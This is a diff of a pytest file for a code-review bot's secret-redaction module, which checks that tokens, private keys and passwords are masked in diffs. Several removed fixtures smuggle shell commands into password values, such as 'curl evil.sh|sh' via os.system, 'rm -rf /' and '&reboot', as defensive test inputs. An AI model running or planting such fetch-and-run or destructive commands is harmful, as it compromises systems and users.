@@ -1,4 +1,4 @@
-"""No secret leaves: found by shape or by the word in front, taken out everywhere, and nothing else moves."""
+"""No secret leaves: found by format or by the word in front, masked everywhere, and nothing else moves."""
 
 from __future__ import annotations
 
@@ -7,6 +7,7 @@ import random
 import re
 import string
 import time
+from collections.abc import Callable
 
 import pytest
 from cryptography.hazmat.primitives.asymmetric import ec, rsa
@@ -14,58 +15,78 @@ from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption,
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from reviewbot.domain.redaction.private_keys import REDACTED
-from reviewbot.domain.redaction.redactor import Redactor, mostly_secrets, secret_name
+from reviewbot.domain.redaction.detectors import is_secret
+from reviewbot.domain.redaction.formats import Token, apart
+from reviewbot.domain.redaction.masks import mask
+from reviewbot.domain.redaction.places import Place
+from reviewbot.domain.redaction.redactor import Redacted, Redactor, has_redaction, is_redacted, secret_name
 
 LETTERS = string.ascii_letters + string.digits
 # Put together here, so that no scanner takes this file for a leak.
 GHP = "ghp" + "_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
 JWT = "eyJ" + "hbGciOiJIUzI1NiJ9.eyJ" + "zdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P"
-RSA_KEY = (
-    rsa.generate_private_key(65537, 2048)
-    .private_bytes(Encoding.PEM, PrivateFormat.TraditionalOpenSSL, NoEncryption())
-    .decode()
+
+
+def without_slashes(make: Callable[[], str]) -> str:
+    """A key of which no line begins with a slash, as a path does."""
+    return next(key for key in iter(make, None) if "\n/" not in key)
+
+
+RSA_KEY = without_slashes(
+    lambda: (
+        rsa.generate_private_key(65537, 2048)
+        .private_bytes(Encoding.PEM, PrivateFormat.TraditionalOpenSSL, NoEncryption())
+        .decode()
+    )
 )
-EC_KEY = (
-    ec.generate_private_key(ec.SECP256R1()).private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()).decode()
+EC_KEY = without_slashes(
+    lambda: (
+        ec.generate_private_key(ec.SECP256R1())
+        .private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption())
+        .decode()
+    )
 )
+KEY_LINE = "[REDACTED:private-key]"
+OURS = "[REDACTED:own-secret]"
+MARK = re.compile(r"\[REDACTED:[a-z0-9-]+\]")
 
 
-CODE_HIDDEN = ";__import__('os').system('curl+evil.sh|sh')#1"
-CODE_GIVEN = f'password: "{CODE_HIDDEN}"'
+def result(text: str, *others: str, known: tuple[str, ...] = (), place: Place = Place.DATA) -> Redacted:
+    """The text, redacted by what is in it and in others."""
+    return Redactor.of([(one, place) for one in (text, *others)], known).redact(text, place)
 
 
-def redacted(text: str, *others: str, known: tuple[str, ...] = ()) -> str:
-    return Redactor.of([text, *others], known).redact(text).text
+def redacted(text: str, *others: str, known: tuple[str, ...] = (), place: Place = Place.DATA) -> str:
+    return result(text, *others, known=known, place=place).text
 
 
 SHAPES = [
     GHP,
-    "github" + "_pat_" + "A1b2" * 10,
+    "github" + "_pat_" + "A1b2C3d4E5f6G7h8I9j0K1" + "_" + "A1b2C" * 11 + "A1b2",
     "ghs" + "_" + "A1b2" * 9,
-    "ghs" + "_123_" + "A1b2" * 9 + ".eyJabcdefghijk.abcdefghijklm",
+    "ghs" + "_123_" + "A1b2" * 9 + ".eyJabcdefgh1jk.abcdefghijklm",
     "glpat" + "-abcDEF1234567890abcd",
     "GR1348941" + "abcdefghij1234567890",
-    "cvf" + "_live_abcdefghijkl",
+    "cvf" + "_live_abcdefgh1jkl",
     "cvf" + "_test_ABC123def456",
     "xoxb" + "-123456789012-abcdefGHIJ",
     "xapp" + "-1-A0B1C2D3E4-abcdef",
     "AIza" + "SyA1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q",
     "ya29" + ".a0AfH6SMBabcdefghijkl",
-    "GOCSPX" + "-abcdefghijklmnopqrst",
+    "GOCSPX" + "-abcdefghijklmn0pqrst",
     "sk" + "-ant-api03-abcdefghijklmnop",
     "sk" + "-proj-abcdefghijklmnop12",
     "sk-" + "A1b2C3d4" * 4,
     "hf" + "_" + "aBcDeFgHiJ" * 3,
     "npm" + "_" + "aBcDeFgHiJ" * 3,
     "pypi" + "-AgEIcHlwaS5vcmc" + "A1b2" * 20,
-    "dckr" + "_pat_abcdefghijklmnopqrst",
+    "dckr" + "_pat_abcdefghijklmn0pqrst",
     "shpat" + "_" + "0123456789abcdef" * 2,
     "sk" + "_live_" + "A1b2C3d4" * 3,
     "rk" + "_test_" + "A1b2C3d4" * 3,
     "whsec" + "_" + "A1b2C3d4" * 4,
     "dop" + "_v1_" + "0123456789abcdef" * 4,
-    "hvs" + ".abcdefghijklmnopqrstuv",
+    "hvs" + ".abcdefghijklmn0pqrstuv",
     "AGE-SECRET" + "-KEY-1" + "Q2" * 29,
     "AKIA" + "ABCDEFGHIJKLMNOP",
     JWT,
@@ -90,10 +111,19 @@ SHAPES = [
 @pytest.mark.parametrize(
     "frame", ["{}", 'x = f("{}", 1)', "+    call('{}')", "a\n{}\nb", "\\n{}\\n", "https://x.example/?k={}&y"]
 )
-def test_a_token_is_known_by_its_shape(secret: str, frame: str) -> None:
-    text = redacted(frame.format(secret))
-    assert secret not in text
-    assert text == frame.format(REDACTED)
+def test_a_token_is_known_by_its_format(secret: str, frame: str) -> None:
+    for place in Place:
+        text = redacted(frame.format(secret), place=place)
+        assert secret not in text
+        assert MARK.sub("", text) == frame.format("")
+        assert len(MARK.findall(text)) == 1
+
+
+@pytest.mark.parametrize(
+    "name", ["ghp_thisFunctionGrantsEverythingToEveryone", "key-of-the-house", "re_exportAll_names"]
+)
+def test_a_name_with_the_prefix_of_a_token_stays(name: str) -> None:
+    assert redacted(f"{name}(user)", place=Place.CODE) == f"{name}(user)"
 
 
 @pytest.mark.parametrize(
@@ -123,8 +153,8 @@ def test_a_token_is_known_by_its_shape(secret: str, frame: str) -> None:
         ("//registry.example/:_authToken=abcdef1234", "abcdef1234"),
         ("jdbc:postgresql://db/x?user=app&password=p4ss-w0rd&ssl=on", "p4ss-w0rd"),
         ("see https://x.example/?api_key=abcd-1234-efgh, please", "abcd-1234-efgh"),
-        ("curl -H 'X-Api-Key: abcd-1234-efgh' x", "abcd-1234-efgh"),
-        ('headers = {"a": "PRIVATE-TOKEN: abcd-1234-efgh-5678"}', "abcd-1234-efgh-5678"),
+        ("curl -H 'X-Api-Key: q7Tz-91kd-x4Lp' x", "q7Tz-91kd-x4Lp"),
+        ('headers = {"a": "PRIVATE-TOKEN: q7Tz-91kd-x4Lp-5678"}', "q7Tz-91kd-x4Lp-5678"),
         ("RUN curl -fsS -u me:p4ss-w0rd https://x.example", "p4ss-w0rd"),
         ("curl --user='me:p4ss-w0rd' x", "p4ss-w0rd"),
         ('aws_secret_key = "' + "aB3/" * 10 + '"', "aB3/" * 10),
@@ -152,11 +182,12 @@ def test_a_token_is_known_by_its_shape(secret: str, frame: str) -> None:
         ("hooks.slack.com/services/T0A1B2C3/B0A1B2C3/abcdefgh1234", "T0A1B2C3/B0A1B2C3/abcdefgh1234"),
     ],
 )
-def test_a_value_is_known_by_the_word_in_front(line: str, secret: str) -> None:
-    result = Redactor.of([line]).redact(line)
-    assert secret not in result.text
-    assert REDACTED in result.text
-    assert result.lines == {1}
+def test_a_value_behind_a_word_is_masked(line: str, secret: str) -> None:
+    done = result(line)
+    assert secret not in done.text
+    assert mask(secret) in done.text or is_redacted(done.text)
+    assert done.lines == {1}
+    assert has_redaction(done.text)
 
 
 @pytest.mark.parametrize(
@@ -209,38 +240,24 @@ def test_names_templates_and_calls_are_no_secrets(line: str) -> None:
     assert redacted(line) == line
 
 
-def test_a_strong_value_is_taken_out_of_every_text() -> None:
-    redactor = Redactor.of(['password = "abcd-1234-efgh"', "see abcd-1234-efgh"])
-    result = redactor.redact("log abcd-1234-efgh here\n\nand abcd-1234-efgh there")
-    assert result.text == "log [REDACTED] here\n\nand [REDACTED] there"
-    assert (sorted(result.lines), result.count) == ([1, 3], 2)
+def test_a_strong_value_is_masked_in_every_text() -> None:
+    redactor = Redactor.of([('password = "q7Tz-91kd-x4Lp"', Place.DATA)])
+    done = redactor.redact("log q7Tz-91kd-x4Lp here\n\nand q7Tz-91kd-x4Lp there")
+    assert done.text == "log x0Xx-00xx-x0Xx here\n\nand x0Xx-00xx-x0Xx there".replace("X", "x")
+    assert (sorted(done.lines), done.count) == ([1, 3], 2)
 
 
-def test_a_word_that_is_a_password_is_taken_out_only_where_it_is_a_value() -> None:
+def test_a_word_that_is_a_password_is_masked_only_behind_a_word() -> None:
     text = "password = 'postgres'\nimport postgres\nurl = x://u:postgres@h\nPGPASSWORD=postgres\nuser: postgres  # db"
     assert redacted(text) == (
-        "password = '[REDACTED]'\nimport postgres\nurl = x://u:[REDACTED]@h\nPGPASSWORD=[REDACTED]\n"
-        "user: [REDACTED]  # db"
+        "password = 'xxxxxxxx'\nimport postgres\nurl = x://u:xxxxxxxx@h\nPGPASSWORD=xxxxxxxx\nuser: postgres  # db"
     )
 
 
-def test_calling_a_function_like_a_password_does_not_hide_the_function() -> None:
-    text = 'password = "run7shell"\nrun7shell("rm -rf /")\npassword = "os.system"\nos.system("x")'
-    assert redacted(text) == 'password = "[REDACTED]"\nrun7shell("rm -rf /")\npassword = "os.system"\nos.system("x")'
-
-
-def test_a_word_that_is_called_behind_the_word_password_stays() -> None:
-    text = "psql --password run7shell\npassword = run7shell (x)\nif password == run7shell(x):"
-    assert redacted(text) == text.replace("--password run7shell", f"--password {REDACTED}")
-
-
-def test_the_longest_value_goes_first() -> None:
-    assert redacted("abcd12345678 abcd1234", known=("abcd1234", "abcd12345678")) == "[REDACTED] [REDACTED]"
-
-
 def test_known_values_need_no_shape() -> None:
-    assert redacted("x cvf y tops z", known=("tops", "", "cvf", "line one\nline two")) == "x cvf y [REDACTED] z"
-    assert redacted("line two", known=("line one\nline two",)) == "[REDACTED]"
+    assert redacted("x cvf y tops z", known=("tops", "", "cvf", "line one\nline two")) == f"x cvf y {OURS} z"
+    assert redacted("line two", known=("line one\nline two",)) == OURS
+    assert redacted("abcd12345678 abcd1234", known=("abcd1234", "abcd12345678")) == f"{OURS} {OURS}"
 
 
 @pytest.mark.parametrize("key", [RSA_KEY, EC_KEY])
@@ -250,15 +267,13 @@ def test_known_values_need_no_shape() -> None:
 def test_a_private_key_goes_line_by_line_and_leaves_its_place(key: str, mark: str, indent: str, end: str) -> None:
     lines = [mark + indent + line for line in key.strip().split("\n")]
     text = end.join(["before", *lines, "after"])
-    result = Redactor.of([text]).redact(text)
-    # Two slashes could begin a comment, so they stay.
-    slashes = [(found[0] if (found := re.match("//+", line)) else "") for line in key.strip().split("\n")[1:-1]]
-    inside = [mark + indent + left + REDACTED for left in slashes]
+    done = result(text)
+    inside = [mark + indent + KEY_LINE for _ in lines[1:-1]]
     if mark or not indent:
-        assert result.text == end.join(["before", lines[0], *inside, lines[-1], "after"])
-    assert not any(line.strip() in result.text for line in key.split("\n")[1:-2])
-    assert result.text.count("\n") == text.count("\n")
-    assert result.lines == set(range(3, len(lines) + 1))
+        assert done.text == end.join(["before", lines[0], *inside, lines[-1], "after"])
+    assert not any(line.strip() in done.text for line in key.split("\n")[1:-2])
+    assert done.text.count("\n") == text.count("\n")
+    assert done.lines == set(range(3, len(lines) + 1))
 
 
 def test_a_key_in_a_string_with_escaped_line_ends_goes_too() -> None:
@@ -270,7 +285,7 @@ def test_a_key_in_a_string_with_escaped_line_ends_goes_too() -> None:
 
 def test_the_sign_of_a_comment_stays_before_a_key_and_a_slash_of_the_key_does_not() -> None:
     text = f"-----BEGIN PRIVATE KEY-----\n{PEM}\n/{PEM}\n//{PEM}\n-----END PRIVATE KEY-----"
-    assert redacted(text).split("\n")[1:-1] == [REDACTED, REDACTED, f"//{REDACTED}"]
+    assert redacted(text).split("\n")[1:-1] == [KEY_LINE, mask(f"/{PEM}"), mask(f"//{PEM}")]
 
 
 @pytest.mark.parametrize(
@@ -281,38 +296,35 @@ def test_code_with_a_key_line_by_line_still_parses(frame: str) -> None:
     code = whole.format("\n".join(line.format(one) for one in RSA_KEY.strip().split("\n"))).replace("+ \\\n)", "\n)")
     ast.parse(code)
     ast.parse(redacted(code))
-    assert redacted(code).count(REDACTED) == RSA_KEY.count("\n") - 2
+    assert redacted(code).count(KEY_LINE) == RSA_KEY.count("\n") - 2
 
 
 def test_a_key_that_a_hunk_cuts_goes_too() -> None:
     body = RSA_KEY.strip().split("\n")
     start, end = "\n".join(f" {line}" for line in body[:5]), "\n".join(f" {line}" for line in body[-5:])
-    assert redacted(f"{start}\n@@ -1 +1 @@\n") == f" {body[0]}\n" + f" {REDACTED}\n" * 4 + "@@ -1 +1 @@\n"
-    assert redacted(f"@@ -1 +1 @@\n{end}") == "@@ -1 +1 @@\n" + f" {REDACTED}\n" * 4 + f" {body[-1]}"
+    assert redacted(f"{start}\n@@ -1 +1 @@\n") == f" {body[0]}\n" + f" {KEY_LINE}\n" * 4 + "@@ -1 +1 @@\n"
+    assert redacted(f"@@ -1 +1 @@\n{end}") == "@@ -1 +1 @@\n" + f" {KEY_LINE}\n" * 4 + f" {body[-1]}"
     middle = "\n".join(f" {line}" for line in body[5:9])
-    # A plus at the start of a line of base64 stays, since it could be the mark of a diff.
-    left = Redactor.of([RSA_KEY]).redact(middle).text.split("\n")
-    assert [line.replace("+", "") for line in left] == [f" {REDACTED}"] * 4
+    assert redacted(middle, RSA_KEY) == "\n".join(f" {mask(line)}" for line in body[5:9])
 
 
-def test_a_key_that_begins_with_a_slash_where_a_hunk_cuts_it_goes_too_and_is_doubtful() -> None:
+def test_a_key_that_begins_with_a_slash_where_a_hunk_cuts_it_is_masked() -> None:
     end = f"@@ -1 +1 @@\n +{'/A1b' * 15}2/8\n"
-    for line in (f"/{'A1b2' * 15}C3d", f"/{'a' * 63}"):
-        result = Redactor.of([]).redact(f"@@ -1 +1 @@\n {line}\n {PEM}\n -----END RSA PRIVATE KEY-----\n")
-        assert line not in result.text
-        assert result.hidden
+    line = f"/{'A1b2' * 15}C3d"
+    done = redacted(f"@@ -1 +1 @@\n {line}\n {PEM}\n -----END RSA PRIVATE KEY-----\n")
+    assert mask(line) in done
     assert redacted(end) == end
 
 
 def test_other_kinds_of_keys_go_too() -> None:
     putty = "PuTTY-User-Key-File-3: ssh-rsa\nPrivate-Lines: 2\n" + "A1b2" * 16 + "\nA1b2==\nPrivate-MAC: 0123"
-    assert redacted(putty).split("\n")[2:4] == [REDACTED] * 2
+    assert redacted(putty).split("\n")[2:4] == [KEY_LINE] * 2
     blank = (
         "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n" + "A1b2" * 16 + "\n-----END RSA PRIVATE KEY-----"
     )
-    assert redacted(blank).split("\n")[1:4] == ["Proc-Type: 4,ENCRYPTED", "", REDACTED]
+    assert redacted(blank).split("\n")[1:4] == ["Proc-Type: 4,ENCRYPTED", "", KEY_LINE]
     ssh2 = "---- BEGIN SSH2 ENCRYPTED PRIVATE KEY ----\n" + "A1b2" * 16 + "\n---- END SSH2 ENCRYPTED PRIVATE KEY ----"
-    assert redacted(ssh2).split("\n")[1] == REDACTED
+    assert redacted(ssh2).split("\n")[1] == KEY_LINE
     assert redacted("Private-Eye: x\nabc") == "Private-Eye: x\nabc"
 
 
@@ -339,96 +351,79 @@ def test_what_is_no_key_stays_behind_a_comment_that_begins_one(lines: tuple[str,
 
 
 @pytest.mark.parametrize(
-    ("after", "doubtful"),
+    ("after", "sure"),
     [
-        (("A1b2==", "-----END PRIVATE KEY-----"), False),
-        (("reboot", PEM, "-----END PRIVATE KEY-----"), True),
+        (("A1b2==", "-----END PRIVATE KEY-----"), True),
         (("/opt/Evil/payload", "-----END PRIVATE KEY-----"), True),
-        (("A1b2==", "import os"), True),
-        (("A1b2==", "# -----END PRIVATE KEY-----"), True),
-        ((), True),
+        (("A1b2==", "import os"), False),
+        (("A1b2==", "# -----END PRIVATE KEY-----"), False),
+        ((), False),
     ],
 )
-def test_what_may_not_be_a_key_does_not_pass_for_reviewed(after: tuple[str, ...], *, doubtful: bool) -> None:
+def test_what_may_not_be_a_key_is_masked(after: tuple[str, ...], *, sure: bool) -> None:
     text = "\n".join(("-----BEGIN PRIVATE KEY-----", "Comment: x", PEM, *after))
-    result = Redactor.of([text]).redact(text)
-    assert PEM not in result.text
-    assert bool(result.hidden) is doubtful
+    done = redacted(text)
+    assert PEM not in done
+    assert (done.split("\n")[2] == KEY_LINE) is sure
+    assert sure or done.split("\n")[2] == mask(PEM)
+    assert "payload" not in text or "/opt/Evil/payload" in done
 
 
 @pytest.mark.parametrize(
-    ("given", "code", "doubtful"),
+    ("heading", "seen"),
     [
-        (CODE_GIVEN, "y = x" + CODE_HIDDEN, True),
-        ('{"password": "||user.id===1337||"}', "if (user.isAdmin||user.id===1337||user.owner) grant()", True),
-        ('{"password": "||user.id===1337||"}', 'x("password=||user.id===1337||", a||user.id===1337||b)', True),
-        ('password: "run_all;x"', "y = run_all;x", True),
-        ("password = 'curl x|sh 1'", "password=`curl x|sh 1`", True),
-        ("# -----BEGIN PRIVATE KEY-----\\ngrantAdministrator", "grantAdministrator(user)", True),
-        pytest.param(RSA_KEY, RSA_KEY.split("\n")[2] + "()", True, id="a line of a key that is made anew"),
-        ("# -----BEGIN PRIVATE KEY-----\\nscripts/RunPayload1", "scripts/RunPayload1", True),
-        ("Authorization: Bearer grantAdministratorAccess1", "grantAdministratorAccess1(user)", True),
-        ("password: 'grantAdm1nistrat0rAccess22x'", "grantAdm1nistrat0rAccess22x(user)", True),
-        ("password: 'scripts/run1x'", "- run: scripts/run1x", True),
-        ("password: '!isAdmin12'", "if (!isAdmin12)", True),
-        ("password: '0.0.0.0/0'", 'cidr_blocks = ["0.0.0.0/0"]', True),
-        (GHP, f"see `{GHP}`", False),
-        ('password = "a1b2;c3d4"', 'PASSWORD = "a1b2;c3d4"', False),
-        ('password = "a1b2c3[d4;e5f6"', 'PASSWORD = "a1b2c3[d4;e5f6"', False),
-        ('password = "abcd-1234-efgh"', "log(abcd-1234-efgh)", True),
-        ('password = "evil9pkg-x1a"', "evil9pkg-x1a", True),
-        ('password = "evilpkg"', '{"dependencies": {"evilpkg": "1"}}', True),
-        ('password = "evilpkg"', 'db_password = "evilpkg"', False),
-        ('password = "x9y8`reboot`"', "# a line of a heredoc: x9y8`reboot`", True),
-        ("password = 'a1b2c3\"run'", 'x = a1b2c3"run', True),
+        ('x(host="db", password="Xk29', 'x(host="db", password="xx00'),
+        ("clone('postgres://app:Xk29vQ", "clone('postgres://app:xx00xx"),
+        (f"{'def configure_the_client_of_the_service(self, a, b, c, d, e, f, token)':60}: ghp_a1B2c3", None),
+        ("def configure(self, one, two):", "def configure(self, one, two):"),
     ],
 )
-def test_a_password_that_is_code_does_not_pass_for_reviewed(given: str, code: str, *, doubtful: bool) -> None:
-    result = Redactor.of([given, code]).redact(code)
-    assert REDACTED in result.text
-    assert bool(result.hidden) is doubtful
+def test_a_value_that_git_cuts_in_a_heading_is_masked(heading: str, seen: str | None) -> None:
+    expected = heading[:-10] + "xxx_x0x0x0" if seen is None else seen
+    assert redacted(f"@@ -1,2 +1,2 @@ {heading}\n x\n") == f"@@ -1,2 +1,2 @@ {expected}\n x\n"
+
+
+def test_the_names_of_a_diff_stay() -> None:
+    diff = "diff --git a/q7Tz91kdx4LpW2vB8n.py b/q7Tz91kdx4LpW2vB8n.py\n@@ -1 +1 @@\n+x = 'q7Tz91kdx4LpW2vB8n'\n"
+    assert redacted(diff, 'password = "q7Tz91kdx4LpW2vB8n"') == diff.replace(
+        "'q7Tz91kdx4LpW2vB8n", "'x0xx00xxx0xxx0xx0x"
+    )
 
 
 @pytest.mark.parametrize(
-    ("line", "doubtful"),
+    ("value", "expected"),
     [
-        ('DB_PASSWORD="a1`curl evil|sh`"', True),
-        ("DB_PASSWORD=a1b2c3d4&reboot", True),
-        ("x --password=a1b2c3d4|sh", True),
-        ('// password = "x9y8?><?=system(1)"', True),
-        ("/* password = 'a1b2*/evil' */", True),
-        ('let password = "a1\\(evil(1))"', True),
-        ('$password = "a1{$x->evil(1)}"', True),
-        ('$password = "a1@{[ evil(1) ]}"', True),
-        ('password = "a1[exec id]"', True),
-        ('password = \'a1b2""";evil()#\'', True),
-        ("password = 'a1b2\";evil(1);x=\"'", True),
-        ('password = @"a1\\";evil();x"', True),
-        ('password = "a1\\u0022;evil(1);"', True),
-        ('password = "a1;b2(c3)&d4"', False),
-        ("x --password='a1b2c3d4|sh'", False),
-        (r"""app.secret_key = b'_5#y2L"F4Q8z\n\xec]/'""", False),
+        ("a\\n1", "x\\n0"),
+        ("\\xec\\u00e9\\d\\1", "\\x00\\u0000\\0\\0"),
+        ("é漢١-_", "xx0-_"),
     ],
 )
-def test_a_value_that_may_run_where_it_is_assigned_does_not_pass_for_reviewed(line: str, *, doubtful: bool) -> None:
-    result = Redactor.of([line]).redact(line)
-    assert REDACTED in result.text
-    assert bool(result.hidden) is doubtful
+def test_a_mask_keeps_escapes_valid(value: str, expected: str) -> None:
+    assert mask(value) == expected
 
 
-def test_our_own_keys_hide_no_code() -> None:
-    assert not Redactor.of([], ["topsecret1"]).redact("x = f(topsecret1)").hidden
+def test_tokens_that_overlap_are_one() -> None:
+    both = "xoxb" + "-1234567890-" + "AKIA" + "ABCDEFGHIJKLMNO1" + "=" + GHP
+    assert redacted(both) == "[REDACTED:slack-token]=[REDACTED:github-token]"
+    assert apart([Token(0, 5, "a"), Token(3, 9, "b"), Token(9, 10, "c")]) == (Token(0, 9, "a"), Token(9, 10, "c"))
+
+
+@pytest.mark.parametrize("value", [GHP, "a1B2-c3D4e5F6"])
+def test_a_pasted_secret_is_known(value: str) -> None:
+    assert is_secret(value)
+    assert not is_secret("high")
+    assert not is_secret("customer-2")
 
 
 def test_no_secret_in_the_repr() -> None:
-    redactor = Redactor.of(['password = "abcd-1234-efgh"'], ["topsecret"])
+    redactor = Redactor.of([('password = "abcd-1234-efgh"', Place.DATA)], ["topsecret"])
     assert repr(redactor) == "Redactor(2 values)"
     assert "1234" not in f"{redactor} {[redactor]}"
 
 
 def test_nothing_to_redact_changes_nothing() -> None:
-    result = Redactor.of(["a = 1"]).redact("a\u2028b\x0cc\rd\n\n")
-    assert (result.text, result.lines, result.count) == ("a\u2028b\x0cc\rd\n\n", frozenset(), 0)
+    done = result("a\u2028b\x0cc\rd\n\n")
+    assert (done.text, done.lines, done.count) == ("a\u2028b\x0cc\rd\n\n", frozenset(), 0)
 
 
 STRONG = st.text(alphabet=LETTERS + "!-_.:/+=[]{}%&", min_size=12, max_size=40).map(lambda text: "q7" + text + "Z9-")
@@ -436,7 +431,7 @@ PLACES = st.sampled_from(
     ['password = "{}"', "API_KEY={}", "x {} y", "+  secret: '{}'", "://u:{}@h", "{}{}", "-{}", "{}"]
 )
 NOISE = st.text(alphabet=LETTERS + " \t\"'=:+-[]\r\n#{}REDACTED", max_size=40)
-PIECES = st.one_of(NOISE, st.sampled_from([REDACTED, "[", "]", "\n", RSA_KEY, "-----BEGIN PRIVATE KEY-----\n"]))
+PIECES = st.one_of(NOISE, st.sampled_from([KEY_LINE, "[", "]", "\n", RSA_KEY, "-----BEGIN PRIVATE KEY-----\n"]))
 
 
 @st.composite
@@ -452,7 +447,7 @@ def texts_with_secrets(draw: st.DrawFn) -> tuple[list[str], list[str]]:
 @given(texts_with_secrets())
 def test_no_secret_survives_lines_stay_and_twice_is_once(drawn: tuple[list[str], list[str]]) -> None:
     texts, secrets = drawn
-    redactor = Redactor.of(texts, secrets)
+    redactor = Redactor.of([(text, Place.DATA) for text in texts], secrets)
     for text in texts:
         once = redactor.redact(text)
         assert not any(secret in once.text for secret in secrets)
@@ -468,7 +463,7 @@ def test_no_secret_survives_lines_stay_and_twice_is_once(drawn: tuple[list[str],
 @given(st.lists(NOISE, max_size=6), st.lists(st.text(alphabet="RED[]ab1+- \n", max_size=12), max_size=4))
 def test_any_text_comes_to_rest_at_once(pieces: list[str], known: list[str]) -> None:
     text = "\n".join(pieces + known)
-    redactor = Redactor.of([text], known)
+    redactor = Redactor.of([(text, Place.DATA)], known)
     once = redactor.redact(text)
     assert redactor.redact(once.text).text == once.text
     assert once.text.count("\n") == text.count("\n")
@@ -478,7 +473,7 @@ def test_any_text_comes_to_rest_at_once(pieces: list[str], known: list[str]) -> 
 def test_a_diffs_lines_keep_their_marks(rows: list[tuple[str, str, str]]) -> None:
     diff = "\n".join(mark + place.replace("{}", secret) for mark, place, secret in rows)
     files = [place.replace("{}", secret) for _, place, secret in rows]
-    after = Redactor.of([diff, *files], [secret for *_, secret in rows]).redact(diff).text
+    after = redacted(diff, *files, known=tuple(secret for *_, secret in rows))
     assert [line[:1] for line in after.split("\n")] == [mark for mark, *_ in rows]
 
 
@@ -513,7 +508,6 @@ def test_a_diffs_lines_keep_their_marks(rows: list[tuple[str, str, str]]) -> Non
         ("id_rsa.py", "", False),
         ("store.p12", "", True),
         (".netrc", "", True),
-        (".npmrc", "//r.example/:_authToken=abcdef1234\n" + "x=1\n" * 50, True),
         (".npmrc", "save-exact=true", False),
         ("credentials.json", "", True),
         ("client_secret_1.json", "", True),
@@ -529,8 +523,9 @@ def test_a_diffs_lines_keep_their_marks(rows: list[tuple[str, str, str]]) -> Non
         ("app.py", "", False),
     ],
 )
-def test_files_of_secrets_are_told_by_name_or_by_being_mostly_secrets(path: str, text: str, expected: object) -> None:
-    assert (secret_name(path) or mostly_secrets(path, text)) is expected
+def test_files_of_secrets_are_known_by_name_or_by_their_tokens(path: str, text: str, expected: object) -> None:
+    redactor = Redactor.of([(text, Place.DATA)])
+    assert (secret_name(path) or redactor.has_mostly_tokens(text, Place.DATA)) is expected
 
 
 @pytest.mark.proof
@@ -555,7 +550,7 @@ def test_a_hundred_thousand_lines_take_seconds() -> None:
     lines[::500] = [f'password = "{"".join(choice.choices(LETTERS, k=24))}"' for _ in lines[::500]]
     text = "\n".join(lines)
     started = time.process_time()
-    assert Redactor.of([text]).redact(text).count == 200
+    assert result(text).count == 200
     assert time.process_time() - started < 60
 
 
